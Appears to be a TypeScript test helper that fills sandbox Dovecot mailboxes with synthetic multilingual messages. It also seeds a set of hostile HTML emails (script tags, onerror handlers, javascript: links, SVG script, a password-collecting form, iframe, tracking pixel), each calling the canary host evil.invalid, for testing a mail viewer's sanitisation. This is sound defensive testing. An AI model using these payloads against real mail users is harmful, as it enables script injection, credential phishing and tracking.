/**
 * Fills sandbox mailboxes fast by writing Maildir++ files directly (no SMTP, no IMAP APPEND), then
 * lets Dovecot sync its index once so the first SELECT does not scan the folder.
 *
 * Layout (see mailServers.ts, `mail_location = maildir:<mailDir>/%u`): `<mailDir>/<user>` is the
 * Maildir root (INBOX); a folder `A/B` is `<mailDir>/<user>/.A.B` with cur/new/tmp.
 * Files go to `cur/` with `,S=<size>` in the name (Dovecot then needs no stat for the size) and
 * are owned by the mail uid. Messages are deterministic: the same options give the same messages.
 */

import { execFile } from 'node:child_process';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { SANDBOX_TENANT } from './fixtures';

const execFileP = promisify(execFile);

/** Runs `doveadm -c <dovecotConfigPath> ...args` (the sandbox's Dovecot: see its description's `mailServers`); resolves stdout. */
export async function doveadm(dovecotConfigPath: string, args: string[]): Promise<string> {
  const { stdout } = await execFileP('doveadm', ['-c', dovecotConfigPath, ...args], { maxBuffer: 64 * 1024 * 1024 });
  return stdout;
}

export interface SeedOptions {
  mailDir: string;
  user: string;
  /** `INBOX` or a folder name (`/` separates levels), e.g. `Archive/2024`. */
  folder: string;
  count: number;
  /** Date of the newest message; older ones go back from it (default: 2025-06-30T12:00Z). */
  startDate?: Date;
  /**
   * Runs `doveadm -c <config> ...args` (MailServers.doveadm). With it, the folder is subscribed and
   * Dovecot syncs its index right after seeding. Without it, the subscription is written to the
   * Maildir's `subscriptions` file and Dovecot indexes the folder on first access (slower SELECT).
   */
  doveadm?: (args: string[]) => Promise<string>;
  /** Also fill Dovecot's cache (envelope, body structure) with `doveadm index`: slower seeding, faster first FETCH. */
  precache?: boolean;
  /** Owner of the files (default: the `mail` user). */
  uid?: number;
  gid?: number;
}

export interface SeedResult {
  count: number;
  seconds: number;
  /** Of which: writing the files, and Dovecot's sync/index. */
  writeSeconds: number;
  indexSeconds: number;
}

const DEFAULT_START = new Date('2025-06-30T12:00:00Z');

/** A small PRNG (mulberry32), so messages are reproducible. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function pick<T>(r: () => number, list: readonly T[]): T {
  return list[Math.floor(r() * list.length)]!;
}

/** RFC 2047 encoded-word (B encoding) when the text is not plain ASCII. */
export function encodeHeaderWord(text: string): string {
  if (/^[\x20-\x7e]*$/.test(text)) return text;
  // Split so each encoded word stays under 75 characters and no UTF-8 sequence is cut.
  const words: string[] = [];
  let chunk = '';
  for (const ch of text) {
    if (Buffer.byteLength(chunk + ch, 'utf8') > 39) {
      words.push(chunk);
      chunk = '';
    }
    chunk += ch;
  }
  if (chunk) words.push(chunk);
  return words.map((w) => `=?UTF-8?B?${Buffer.from(w, 'utf8').toString('base64')}?=`).join('\r\n ');
}

function address(name: string, email: string): string {
  const display = /^[\x20-\x7e]*$/.test(name) ? `"${name.replace(/["\\]/g, '\\$&')}"` : encodeHeaderWord(name);
  return `${display} <${email}>`;
}

function rfc2822Date(d: Date): string {
  return d.toUTCString().replace('GMT', '+0000');
}

function base64Lines(data: Buffer | string): string {
  const b64 = Buffer.from(data).toString('base64');
  return b64.replace(/.{1,76}/g, '$&\r\n');
}

const SENDERS: ReadonlyArray<readonly [string, string]> = [
  ['Adele Vance', 'adele@contoso.test'],
  ['Megan Bowen', 'megan@contoso.test'],
  ['Lee Gu', 'lee@contoso.test'],
  ['Orders', 'orders@contoso.test'],
  ['Jürgen Müller', 'juergen.mueller@fabrikam.test'],
  ['François Dubois', 'francois@tailspin.test'],
  ['佐藤 花子', 'hanako.sato@adatum.test'],
  ['Ολυμπία Παπαδοπούλου', 'olympia@litware.test'],
  ['GitHub', 'noreply@github.test'],
  ['Contoso IT Helpdesk', 'helpdesk@contoso.test'],
  ['Łukasz Żółć', 'lukasz@northwind.test'],
  ["O'Brien, Siobhán", 'siobhan@woodgrove.test']
];

const SUBJECTS: readonly string[] = [
  'Quarterly report Q{n}',
  'Grüße aus Zürich',
  '会議の議事録 (第{n}回)',
  'Re: Invoice #{n} overdue',
  'Fwd: Project Aurora — kickoff',
  'Your build #{n} failed',
  'Lunch on Friday? 🍕',
  'Προσφορά για το έργο {n}',
  'Ça marche : réunion déplacée',
  'Password expiry notice',
  'Order {n} shipped',
  'Weekly digest: 12 new posts',
  'Zażółć gęślą jaźń — test {n}'
];

const PARAGRAPHS: readonly string[] = [
  'Please find the figures for the last quarter below. Revenue grew by 4% while costs stayed flat.',
  'Viele Grüße aus Zürich! Das Wetter ist schön, und die Besprechung war erfolgreich.',
  '来週の会議は火曜日の午後2時に変更になりました。よろしくお願いします。',
  'The build failed in step "test": 3 tests failed, 1,204 passed. See the log for details.',
  'Can we move the review to Thursday? I have a conflict on Wednesday afternoon.',
  'Το έργο προχωρά σύμφωνα με το χρονοδιάγραμμα.',
  'Merci pour votre message. Nous reviendrons vers vous rapidement.',
  'Reminder: your password expires in 7 days. Change it from the portal.'
];

// A minimal but valid one-page PDF.
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n' +
    '4 0 obj<</Length 44>>stream\nBT /F1 12 Tf 20 50 Td (Sandbox invoice) Tj ET\nendstream endobj\n' +
    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  'latin1'
);

function csv(n: number): string {
  const rows = ['id,item,quantity,price'];
  for (let i = 1; i <= 5; i++) rows.push(`${n}-${i},Item ${i},${i * 2},${(i * 9.99).toFixed(2)}`);
  return rows.join('\r\n') + '\r\n';
}

function escapeHtml(s: string): string {
  return s.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]!);
}

function htmlBody(paragraphs: string[], subject: string): string {
  return (
    '<!DOCTYPE html><html><head><meta charset="utf-8"></head>' +
    '<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">' +
    `<h2 style="color:#0f6cbd;margin:0 0 8px">${escapeHtml(subject)}</h2>` +
    paragraphs.map((p) => `<p style="margin:0 0 12px;line-height:1.4">${escapeHtml(p)}</p>`).join('') +
    '<table style="border-collapse:collapse;border:1px solid #ccc"><tr>' +
    '<td style="padding:4px 8px;background:#f3f2f1">Status</td><td style="padding:4px 8px">Open</td></tr></table>' +
    '</body></html>'
  );
}

/** One message, deterministic in (folder, index). */
export function buildMessage(user: string, folder: string, index: number, date: Date): string {
  const r = rng(index * 2654435761 + folder.length * 97);
  const [fromName, fromAddr] = pick(r, SENDERS);
  const subject = pick(r, SUBJECTS).replace('{n}', String(index + 1));
  const paragraphs = [pick(r, PARAGRAPHS), pick(r, PARAGRAPHS)];
  const kind = Math.floor(r() * 5); // 0 plain, 1 html, 2 alternative, 3 pdf attachment, 4 csv attachment
  const boundary = `=_sandbox_${index.toString(36)}_${Math.floor(r() * 1e9).toString(36)}`;
  const messageId = `<seed.${folder.replace(/[^A-Za-z0-9]/g, '-')}.${index}@${SANDBOX_TENANT.domain}>`;
  const headers = [
    `Return-Path: <${fromAddr}>`,
    `Message-ID: ${messageId}`,
    `Date: ${rfc2822Date(date)}`,
    `From: ${address(fromName, fromAddr)}`,
    `To: ${address(user.split('@')[0]!, user)}`,
    `Subject: ${encodeHeaderWord(subject)}`,
    'MIME-Version: 1.0'
  ];
  if (r() < 0.2) headers.push(`Cc: ${address('Megan Bowen', 'megan@contoso.test')}`);
  if (subject.startsWith('Re:')) headers.push(`In-Reply-To: <seed.thread.${index % 50}@${SANDBOX_TENANT.domain}>`);
  if (r() < 0.1) headers.push('Importance: high', 'X-Priority: 1');
  const text = paragraphs.join('\r\n\r\n') + '\r\n\r\n-- \r\n' + fromName + '\r\n';
  let body: string;
  if (kind === 0) {
    headers.push('Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit');
    body = text;
  } else if (kind === 1) {
    headers.push('Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64');
    body = base64Lines(htmlBody(paragraphs, subject));
  } else if (kind === 2) {
    headers.push(`Content-Type: multipart/alternative; boundary="${boundary}"`);
    body =
      `--${boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(text)}` +
      `--${boundary}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(htmlBody(paragraphs, subject))}` +
      `--${boundary}--\r\n`;
  } else {
    const pdf = kind === 3;
    const name = pdf ? `Invoice-${index + 1}.pdf` : `order-${index + 1}.csv`;
    const type = pdf ? 'application/pdf' : 'text/csv; charset=utf-8';
    const data = pdf ? PDF : Buffer.from(csv(index + 1), 'utf8');
    headers.push(`Content-Type: multipart/mixed; boundary="${boundary}"`);
    body =
      `This is a multi-part message in MIME format.\r\n\r\n--${boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(text)}` +
      `--${boundary}\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(data)}` +
      `--${boundary}--\r\n`;
  }
  return headers.join('\r\n') + '\r\n\r\n' + body;
}

function folderDir(mailDir: string, user: string, folder: string): string {
  const root = path.join(mailDir, user.toLowerCase());
  if (folder.toUpperCase() === 'INBOX') return root;
  if (folder.includes('.')) throw new Error(`Folder names with '.' are not supported by Maildir++: ${folder}`);
  return path.join(root, '.' + folder.split('/').join('.'));
}

async function mailOwner(uid?: number, gid?: number): Promise<{ uid: number; gid: number }> {
  if (uid !== undefined && gid !== undefined) return { uid, gid };
  const { stdout: u } = await execFileP('id', ['-u', 'mail']);
  const { stdout: g } = await execFileP('id', ['-g', 'mail']);
  return { uid: uid ?? Number(u.trim()), gid: gid ?? Number(g.trim()) };
}

async function ensureFolder(dir: string, root: string, owner: { uid: number; gid: number }): Promise<void> {
  for (const d of [root, dir, path.join(dir, 'cur'), path.join(dir, 'new'), path.join(dir, 'tmp')]) {
    await fs.mkdir(d, { recursive: true, mode: 0o700 });
    await fs.chown(d, owner.uid, owner.gid);
  }
  if (dir !== root) {
    // Maildir++ marks a folder with an empty `maildirfolder` file.
    const marker = path.join(dir, 'maildirfolder');
    await fs.writeFile(marker, '', { flag: 'a' });
    await fs.chown(marker, owner.uid, owner.gid);
  }
}

/** Subscribes without doveadm: Dovecot 2.3's subscriptions file (version 2, levels separated by tabs). */
async function subscribeInFile(root: string, folder: string, owner: { uid: number; gid: number }): Promise<void> {
  const file = path.join(root, 'subscriptions');
  const existing = await fs.readFile(file, 'utf8').catch(() => '');
  const entry = folder.split('/').join('\t');
  const lines = existing ? existing.split('\n').filter((l) => l !== '') : [];
  if (lines[0] !== 'V\t2') lines.unshift('V\t2', '');
  if (lines.includes(entry)) return;
  const body = ['V\t2', '', ...lines.slice(1).filter((l) => l !== ''), entry].join('\n') + '\n';
  await fs.writeFile(file, body);
  await fs.chown(file, owner.uid, owner.gid);
}

let uniq = 0;

async function writeMessages(dir: string, owner: { uid: number; gid: number }, items: Array<{ content: string; date: Date; flags: string }>): Promise<void> {
  const host = 'sandbox';
  const concurrency = 64;
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < items.length) {
      const i = next++;
      const item = items[i]!;
      const data = Buffer.from(item.content, 'utf8');
      const secs = Math.floor(item.date.getTime() / 1000);
      const name = `${secs}.M${i}P${process.pid}Q${++uniq}.${host},S=${data.length}:2,${item.flags}`;
      const file = path.join(dir, 'cur', name);
      await fs.writeFile(file, data, { mode: 0o600 });
      await fs.chown(file, owner.uid, owner.gid);
      // Dovecot takes the received date (INTERNALDATE) from the file's mtime.
      await fs.utimes(file, item.date, item.date);
    }
  };
  await Promise.all(Array.from({ length: Math.min(concurrency, items.length) }, worker));
}

async function finish(
  options: { mailDir: string; user: string; folder: string; doveadm?: (args: string[]) => Promise<string>; precache?: boolean },
  owner: { uid: number; gid: number }
): Promise<number> {
  const started = process.hrtime.bigint();
  const root = path.join(options.mailDir, options.user.toLowerCase());
  if (options.doveadm) {
    if (options.folder.toUpperCase() !== 'INBOX') {
      await options.doveadm(['mailbox', 'subscribe', '-u', options.user, options.folder]);
    }
    // Syncs the folder: assigns UIDs (dovecot-uidlist) and writes the index, so SELECT is quick.
    await options.doveadm(['force-resync', '-u', options.user, options.folder]);
    if (options.precache) await options.doveadm(['index', '-u', options.user, options.folder]);
  } else if (options.folder.toUpperCase() !== 'INBOX') {
    await subscribeInFile(root, options.folder, owner);
  }
  return Number(process.hrtime.bigint() - started) / 1e9;
}

/** Writes `count` realistic messages into a folder; newest first from `startDate`, about 7 minutes apart. */
export async function seedFolder(options: SeedOptions): Promise<SeedResult> {
  const started = process.hrtime.bigint();
  const owner = await mailOwner(options.uid, options.gid);
  const root = path.join(options.mailDir, options.user.toLowerCase());
  const dir = folderDir(options.mailDir, options.user, options.folder);
  await ensureFolder(dir, root, owner);
  const start = (options.startDate ?? DEFAULT_START).getTime();
  const batch = 5000;
  for (let from = 0; from < options.count; from += batch) {
    const items: Array<{ content: string; date: Date; flags: string }> = [];
    for (let i = from; i < Math.min(options.count, from + batch); i++) {
      // Older as the index grows, with jitter; roughly the last 18 months for 100,000 messages.
      const jitter = ((i * 7919) % 300) * 1000;
      const date = new Date(start - i * 7 * 60 * 1000 - jitter);
      const flags = i % 3 === 0 ? '' : i % 17 === 0 ? 'FS' : 'S';
      items.push({ content: buildMessage(options.user, options.folder, i, date), date, flags });
    }
    await writeMessages(dir, owner, items);
  }
  const writeSeconds = Number(process.hrtime.bigint() - started) / 1e9;
  const indexSeconds = await finish(options, owner);
  return { count: options.count, seconds: writeSeconds + indexSeconds, writeSeconds, indexSeconds };
}

/** Subjects of the hostile messages, in the order they are seeded. */
export const HOSTILE_SUBJECTS = {
  script: 'Hostile: inline <script>',
  onerror: 'Hostile: img onerror handler',
  javascriptLink: 'Hostile: javascript: link',
  svgScript: 'Hostile: SVG with script',
  cssRemote: 'Hostile: CSS url() fetching a remote resource',
  metaRefresh: 'Hostile: meta http-equiv refresh',
  form: 'Hostile: form posting credentials',
  iframe: 'Hostile: iframe',
  remoteImage: 'Hostile: remote image (tracking pixel)'
} as const;

export type HostileKind = keyof typeof HOSTILE_SUBJECTS;

/** The canary a test can look for: any of these strings reaching execution/network means a leak. */
export const HOSTILE_CANARY_HOST = 'evil.invalid';

const HOSTILE_HTML: Record<HostileKind, string> = {
  script: `<p>Before the script.</p><script>window.__hostile='script';fetch('https://${HOSTILE_CANARY_HOST}/script')</script><p>After the script.</p>`,
  onerror: `<p>Broken image:</p><img src="x" onerror="window.__hostile='onerror';fetch('https://${HOSTILE_CANARY_HOST}/onerror')">`,
  javascriptLink: `<p><a href="javascript:window.__hostile='javascript-link';fetch('https://${HOSTILE_CANARY_HOST}/jslink')">Click to view your invoice</a></p>`,
  svgScript: `<p>Logo:</p><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="window.__hostile='svg-onload'"><script>window.__hostile='svg-script';fetch('https://${HOSTILE_CANARY_HOST}/svg')</script><rect width="10" height="10" fill="red"/></svg>`,
  cssRemote: `<style>body{background:url('https://${HOSTILE_CANARY_HOST}/css-bg.png')}@import url('https://${HOSTILE_CANARY_HOST}/import.css');</style><p style="background-image:url(https://${HOSTILE_CANARY_HOST}/inline-bg.png)">Styled text.</p>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=https://${HOSTILE_CANARY_HOST}/refresh"><p>You are being redirected.</p>`,
  form: `<form action="https://${HOSTILE_CANARY_HOST}/collect" method="post"><p>Confirm your password:</p><input type="password" name="pw"><button type="submit">Sign in</button></form>`,
  iframe: `<p>Embedded:</p><iframe src="https://${HOSTILE_CANARY_HOST}/frame" width="300" height="200"></iframe>`,
  remoteImage: `<p>Newsletter</p><img src="https://${HOSTILE_CANARY_HOST}/pixel.gif?u=adele" width="1" height="1" alt="">`
};

/** Builds the hostile message of a kind (deterministic). */
export function buildHostileMessage(user: string, kind: HostileKind, date: Date): string {
  const subject = HOSTILE_SUBJECTS[kind];
  const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${subject}</title></head><body>${HOSTILE_HTML[kind]}</body></html>`;
  const boundary = `=_hostile_${kind}`;
  const text = `${subject}\r\n\r\nThis message carries active content that a mail viewer must neutralise.\r\n`;
  return [
    `Message-ID: <hostile.${kind}@${SANDBOX_TENANT.domain}>`,
    `Date: ${rfc2822Date(date)}`,
    `From: "Mallory (hostile test)" <mallory@${HOSTILE_CANARY_HOST}>`,
    `To: <${user}>`,
    `Subject: ${subject}`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    text,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(html) + `--${boundary}--`,
    ''
  ].join('\r\n');
}

/** Seeds one message per hostile kind (distinct subjects, see HOSTILE_SUBJECTS) into a folder. */
export async function seedHostileMessages(options: Omit<SeedOptions, 'count'> & { kinds?: HostileKind[] }): Promise<SeedResult & { subjects: string[] }> {
  const started = process.hrtime.bigint();
  const owner = await mailOwner(options.uid, options.gid);
  const root = path.join(options.mailDir, options.user.toLowerCase());
  const dir = folderDir(options.mailDir, options.user, options.folder);
  await ensureFolder(dir, root, owner);
  const kinds = options.kinds ?? (Object.keys(HOSTILE_SUBJECTS) as HostileKind[]);
  const start = (options.startDate ?? DEFAULT_START).getTime();
  const items = kinds.map((kind, i) => {
    const date = new Date(start - i * 60 * 1000);
    return { content: buildHostileMessage(options.user, kind, date), date, flags: '' };
  });
  await writeMessages(dir, owner, items);
  const writeSeconds = Number(process.hrtime.bigint() - started) / 1e9;
  const indexSeconds = await finish(options, owner);
  return {
    count: items.length,
    seconds: writeSeconds + indexSeconds,
    writeSeconds,
    indexSeconds,
    subjects: kinds.map((k) => HOSTILE_SUBJECTS[k])
  };
}
